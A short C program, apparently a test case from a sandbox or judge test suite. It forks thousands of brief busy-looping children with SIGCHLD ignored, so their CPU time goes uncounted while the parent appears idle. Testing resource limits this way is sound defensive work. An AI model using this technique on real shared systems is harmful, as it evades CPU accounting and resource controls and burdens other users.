/* attack: children that end uncounted keep its core busy, so that it is ready and seems to wait for others */
/* needs: pids */
#include <signal.h>
#include <stdio.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

int main(void) {
    char line[65536];
    alarm(10);
    signal(SIGCHLD, SIG_IGN);
    if (fgets(line, sizeof line, stdin)) {
        puts("ok");
        fflush(stdout);
    }
    for (int round = 0; round < 2000; round++) {
        for (int i = 0; i < 8; i++) {
            if (fork() == 0) {
                for (double end = now() + 0.004; now() < end;) {
                }
                _exit(0);
            }
        }
        usleep(1000);
    }
    pause();
}
